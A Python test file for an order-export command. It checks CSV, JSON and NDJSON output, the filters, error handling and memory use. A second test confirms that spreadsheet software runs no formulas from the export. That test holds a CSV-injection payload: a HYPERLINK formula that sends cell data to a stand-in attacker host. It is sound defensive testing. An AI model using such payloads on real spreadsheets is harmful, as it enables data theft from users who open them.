"""`ordersync export` (Docs/OPERATIONS.md, "Export for accounting") on a real master's store: CSV
that Python's csv module reads back (quotes, commas, line breaks and non-ASCII in names, CRLF
records, money in minor units and formatted), one row per line item with --items, JSON and
NDJSON, the --from/--to/--status filters, a clear refusal of bad options, and flat memory: the
export of 100k orders peaks at about the RSS of the export of 10k."""

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import time
import zipfile
from xml.etree import ElementTree

from lan_support import require
from ordersync_lab import OrderSyncNode, UnixHTTPConnection, ordersync_binary

TRICKY = [
    'Anna "Annie" Smith',
    "Comma, Inc.",
    "Line one\nline two",
    "Crème brûlée — 東京 🍣",
    " padded ",
]


def post_order(node: OrderSyncNode, order: dict) -> dict:
    conn = UnixHTTPConnection(os.path.join(node.data_dir, "ordersync.sock"))
    try:
        conn.request("POST", "/v1/orders", headers={"Content-Type": "application/json"}, body=json.dumps(order))
        r = conn.getresponse()
        body = json.loads(r.read())
        assert r.status == 201, body
        return body
    finally:
        conn.close()


def export(node: OrderSyncNode, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([ordersync_binary(), "export", "--data-dir", node.data_dir, *args],
                          capture_output=True, timeout=120)


def peak_rss_kib(argv: list[str], out_path: str) -> tuple[int, int, float]:
    """Runs a command with its output to `out_path` and returns its peak resident set
    (ru_maxrss, KiB), the CRLF line count of the output and the seconds it took."""
    started = time.monotonic()
    with open(out_path, "wb") as out:
        p = subprocess.Popen(argv, stdout=out, stderr=subprocess.PIPE)
        _, status, usage = os.wait4(p.pid, 0)
        p.returncode = os.waitstatus_to_exitcode(status)
        assert p.returncode == 0, p.stderr.read()
        p.stderr.close()
    seconds = time.monotonic() - started
    lines, last = 0, b""
    with open(out_path, "rb") as f:
        while chunk := f.read(1 << 20):
            # A CRLF may straddle two chunks.
            lines += chunk.count(b"\r\n") + (last == b"\r" and chunk[:1] == b"\n")
            last = chunk[-1:]
    os.unlink(out_path)
    return usage.ru_maxrss, lines, seconds


def test_csv_json_filters_and_flat_memory(make_lan):
    (h1,) = make_lan(1).hosts
    master = OrderSyncNode.master(h1, store="shop1")
    master.wait_api()
    made = []
    for i, name in enumerate(TRICKY):
        made.append(post_order(master, {
            "uuid": f"00000000-0000-4000-8000-00000000000{i}", "customerName": name,
            "created": f"2026-11-0{i + 1}T12:00:00Z", "note": f"note, {i}",
            "items": [{"name": f"Café {i}", "quantity": 2, "unitPrice": 1234 + i, "sku": f"S-{i}"},
                      {"name": 'Tea "green"', "quantity": 1, "unitPrice": 5}],
        }))
    conn = UnixHTTPConnection(os.path.join(master.data_dir, "ordersync.sock"))
    conn.request("PATCH", f"/v1/orders/{made[1]['uuid']}", headers={"Content-Type": "application/json"},
                 body=json.dumps({"status": "cancelled"}))
    assert conn.getresponse().status == 200
    conn.close()

    # CSV, one row per order: RFC 4180 records ending in CRLF; the csv module reads it back.
    r = export(master, "--format", "csv")
    assert r.returncode == 0, r.stderr
    raw = r.stdout
    assert raw.startswith(b"uuid,created,status,customer_name,") and raw.endswith(b"\r\n")
    assert raw.count(b"\r\n") == len(TRICKY) + 1  # the line break inside a name is a bare LF in quotes
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert [row["customer_name"] for row in rows] == TRICKY
    for i, row in enumerate(rows):
        cents = 2 * (1234 + i) + 5
        assert row["total_cents"] == str(cents) and row["total"] == f"{cents // 100}.{cents % 100:02d}", row
        assert row["item_lines"] == "2" and row["item_quantity"] == "3" and row["note"] == f"note, {i}"
    assert rows[1]["status"] == "cancelled" and rows[0]["status"] == "open"

    # One row per line item.
    r = export(master, "--format", "csv", "--items")
    items = list(csv.DictReader(io.StringIO(r.stdout.decode("utf-8"), newline="")))
    assert len(items) == 2 * len(TRICKY)
    assert items[0]["name"] == "Café 0" and items[0]["unit_price_cents"] == "1234" and items[0]["unit_price"] == "12.34"
    assert items[0]["line_total_cents"] == "2468" and items[1]["name"] == 'Tea "green"' and items[1]["line_total"] == "0.05"

    # JSON: one array; NDJSON: one object per line; both with the totals.
    r = export(master, "--format", "json")
    orders = json.loads(r.stdout)
    assert [o["customerName"] for o in orders] == TRICKY and orders[0]["totalCents"] == 2473 and orders[0]["total"] == "24.73"
    r = export(master, "--format", "ndjson")
    assert [json.loads(line)["uuid"] for line in r.stdout.decode().splitlines()] == [o["uuid"] for o in orders]

    # Filters: --from inclusive, --to exclusive, on `created`; --status.
    def names(*args):
        out = export(master, "--format", "json", *args)
        assert out.returncode == 0, out.stderr
        return [o["customerName"] for o in json.loads(out.stdout)]
    assert names("--from", "2026-11-02", "--to", "2026-11-04") == TRICKY[1:3]
    assert names("--from", "2026-11-03T12:00:00Z") == TRICKY[2:]
    assert names("--status", "cancelled") == [TRICKY[1]]
    assert names("--status", "open", "--to", "2026-11-03") == [TRICKY[0]]
    assert names("--from", "2027-01-01") == []

    # --output: the file appears complete.
    target = os.path.join(h1.dir, "orders.csv")
    r = export(master, "--output", target)
    assert r.returncode == 0 and b"exported 5 orders" in r.stderr
    with open(target, "rb") as f:
        assert f.read() == raw
    assert not os.path.exists(target + ".partial")

    # Bad options: a clear message, exit 64.
    for bad in (["--format", "xml"], ["--from", "yesterday"], ["--status", "done"], ["--format", "json", "--items"]):
        r = export(master, *bad)
        assert r.returncode == 64 and r.stderr, (bad, r.stderr)

    # Memory: 10k orders, then 100k, exported from the stopped master's file.
    assert master.stop() == 0
    db_path = os.path.join(master.data_dir, "ordersync.sqlite")

    def grow_to(total: int):
        with sqlite3.connect(db_path) as db:
            have = db.execute("SELECT count(*) FROM orders").fetchone()[0]
            db.execute(
                """
                WITH RECURSIVE n(i) AS (SELECT ? UNION ALL SELECT i + 1 FROM n WHERE i < ?)
                INSERT INTO orders (uuid_key, uuid, customer_name, created_text, created_ms, created_offset_min,
                    shipping_method, table_name, table_size, extra_json, version, status, items_json, note)
                SELECT printf('%08x-0000-4000-8000-%012x', i, i), printf('%08X-0000-4000-8000-%012X', i, i),
                    t.customer_name || ' ' || i, t.created_text, t.created_ms + i, t.created_offset_min, t.shipping_method,
                    t.table_name, t.table_size, t.extra_json, t.version, t.status, t.items_json, t.note
                FROM n, (SELECT * FROM orders ORDER BY created_ms LIMIT 1) AS t
                """, (have + 1, total))
    argv = [ordersync_binary(), "export", "--data-dir", master.data_dir, "--format", "csv", "--items"]
    out_path = os.path.join(h1.dir, "export.csv")
    figures = {}
    # Every order is a copy of the first one: with --items, a row per line item.
    with sqlite3.connect(db_path) as db:
        items = len(json.loads(db.execute("SELECT items_json FROM orders ORDER BY created_ms LIMIT 1").fetchone()[0] or "[]"))
    # The largest store: 300,000 orders by default (30 times the smallest, minutes of a debug build
    # on a busy machine); ORDERSYNC_EXPORT_ORDERS=1000000 measures the million of OPERATIONS.md.
    largest = int(os.environ.get("ORDERSYNC_EXPORT_ORDERS", "300000"))
    for total in (10_000, 100_000, largest):
        grow_to(total)
        rss, lines, seconds = peak_rss_kib(argv, out_path)
        assert lines == total * max(1, items) + 1, (total, items, lines)
        figures[total] = rss
        print(f"FIGURE export of {total} orders (CSV with items): peak RSS {rss} KiB, {seconds:.1f} s")
    small = figures[10_000]
    # Memory does not grow with the store: the largest within 25 % (+4 MiB) of ten thousand.
    for total in (100_000, largest):
        assert figures[total] < small * 1.25 + 4096, figures


# Text a terminal could send that a spreadsheet would run as a formula (OWASP "CSV Injection").
FORMULAS = ['=HYPERLINK("http://attacker.invalid/?"&A1;"Click")', "+1+1", "-2+3", "@SUM(1;2)", "=1+1"]


def spreadsheet_cells(csv_path: str, workdir: str) -> list[list[tuple[str, str, bool]]]:
    """Opens the CSV in LibreOffice Calc (headless, as UTF-8 with comma and double quote, its
    default of evaluating formulas kept), saves it as .xlsx and reads the cells back: per row,
    per cell (type, value, whether the cell holds a formula)."""
    soffice = shutil.which("soffice")
    require(soffice is not None, "the spreadsheet test needs LibreOffice (apt-get install libreoffice-calc-nogui)")
    profile = os.path.join(workdir, "lo-profile")
    r = subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--infilter=CSV:44,34,76,1",
                        "--convert-to", "xlsx", "--outdir", workdir, csv_path], capture_output=True, timeout=180)
    xlsx = os.path.splitext(csv_path)[0] + ".xlsx"
    assert r.returncode == 0 and os.path.exists(xlsx), r
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(xlsx) as z:
        strings = ["".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t"))
                   for si in ElementTree.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns)]
        sheet = ElementTree.fromstring(z.read("xl/worksheets/sheet1.xml"))
    rows = []
    for row in sheet.iter(f"{{{ns['m']}}}row"):
        cells = []
        for c in row.findall("m:c", ns):
            # An empty cell is left out: place each by its reference (B2 is the second column).
            column = 0
            for letter in c.get("r").rstrip("0123456789"):
                column = column * 26 + ord(letter) - ord("A") + 1
            while len(cells) < column - 1:
                cells.append(("empty", "", False))
            kind, v = c.get("t", "n"), c.find("m:v", ns)
            value = "" if v is None else (strings[int(v.text)] if kind == "s" else v.text)
            cells.append((kind, value, c.find("m:f", ns) is not None))
        rows.append(cells)
    return rows


def test_a_spreadsheet_opens_the_csv_as_text_and_numbers_and_runs_no_formula(make_lan):
    (h1,) = make_lan(1).hosts
    master = OrderSyncNode.master(h1, store="shop1")
    master.wait_api()
    names = TRICKY + FORMULAS
    for i, name in enumerate(names):
        post_order(master, {
            "uuid": f"00000000-0000-4000-8000-0000000000{i:02d}", "customerName": name,
            "created": f"2026-11-{i + 1:02d}T12:00:00Z", "note": "=1+2" if i == 0 else "plain",
            "items": [{"name": "-Espresso" if i == 0 else "Espresso", "quantity": 2, "unitPrice": 250 + i}],
        })
    target = os.path.join(h1.dir, "orders.csv")
    r = export(master, "--format", "csv", "--output", target)
    assert r.returncode == 0, r.stderr
    rows = spreadsheet_cells(target, h1.dir)
    header = [value for _, value, _ in rows[0]]
    assert header[:4] == ["uuid", "created", "status", "customer_name"], header
    body = rows[1:]
    assert len(body) == len(names), rows
    # Nothing a terminal typed became a formula: every cell is a plain value.
    assert not any(formula for row in rows for _, _, formula in row), rows
    column = {name: i for i, name in enumerate(header)}
    shown = [row[column["customer_name"]][1] for row in body]
    # Names show as typed (quotes, comma, line break, accents, CJK, emoji, spaces); one that starts
    # like a formula shows with the leading apostrophe that made it text.
    assert shown == TRICKY + ["'" + f for f in FORMULAS], shown
    assert body[0][column["note"]][1] == "'=1+2"
    for i, row in enumerate(body):
        kind, cents, _ = row[column["total_cents"]]
        assert kind == "n" and int(float(cents)) == 2 * (250 + i), row
        kind, total, _ = row[column["total"]]
        assert kind == "n" and abs(float(total) - 2 * (250 + i) / 100) < 1e-9, row
    print(f"FIGURE spreadsheet: {len(body)} rows opened by LibreOffice Calc, 0 formulas, "
          f"{len(FORMULAS)} formula-like names shown as text")
